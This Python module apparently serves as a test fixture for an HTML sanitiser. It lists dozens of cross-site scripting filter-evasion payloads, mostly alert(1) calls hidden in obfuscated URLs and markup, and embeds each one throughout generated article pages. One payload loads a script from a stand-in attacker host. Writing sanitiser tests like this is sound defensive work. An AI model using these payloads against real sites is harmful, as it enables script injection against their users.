"""Ways to smuggle a script through a sanitiser, after the shapes that the OWASP XSS filter evasion cheat sheet lists
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html). Each would call `alert`.
"""

from __future__ import annotations

from html import escape
from typing import Final

ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "jav\tascript:alert(1)",
    "jav\nascript:alert(1)",
    "java\0script:alert(1)",
    " \x0e javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript:/*--></title></style>*/alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:alert(1)",
    "//[javascript:alert(1)",
    'https://x/" onmouseover="alert(1)',
    "https://x/'onerror='alert(1)",
    "https://x/><script>alert(1)</script>",
    "\u2028javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "ｊavascript:alert(1)",
    "javascript:javascript:alert(1)",
    "x:javascript:alert(1)",
)
MARKUP: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src=# onmouseover=alert(1)>",
    "<img onmouseover=alert(1)>",
    "<img/onload=alert(1)/src=/i.png>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit autofocus onfocus=alert(1)></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<table background=javascript:alert(1)><td>x</table>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp></xmp><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</p></article><script>alert(1)</script>",
    "<a href=x onclick=alert(1)>x</a>",
    "<button onclick=alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)>",
    "<x-card onclick=alert(1) tabindex=1>x</x-card>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "¼script¾alert(1)¼/script¾",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e<script>alert(1)</script>",
)
PROSE: Final = "The ferry to Norholm left an hour late on Monday, its crew said, and nobody on the quay minded at all. "


def pages() -> list[str]:
    """A page for each way, with the smuggled words at every place that an Article takes words or addresses from."""
    return [_page(way, escape(way), way) for way in MARKUP] + [_page("", way, way) for way in ADDRESSES]


def _page(raw: str, shown: str, address: str) -> str:
    quoted = address if "&#" in address or "&colon" in address else escape(address)
    return f"""<html lang="{escape(address)}"><head><title>{shown}</title><link rel=canonical href="{quoted}">
<meta property="og:image" content="{quoted}"><meta property="og:site_name" content="{escape(address)}"></head><body>
<h1>Ferry {shown}</h1><p>{PROSE}{shown}</p><p>{PROSE}</p><figure><img src="{quoted}" alt="{escape(address)}">
<figcaption>{shown}</figcaption></figure><p>{PROSE} <a href="{quoted}">{shown}</a></p><ul><li>{PROSE}{shown}</ul>
<blockquote>{PROSE}{shown}</blockquote><table><tr><td>{shown}<td>{PROSE}</table><pre>{shown}</pre>
<iframe src="{quoted}"></iframe><video src="{quoted}"></video><p>{PROSE}</p>{raw}<p>{PROSE}</p></body></html>"""
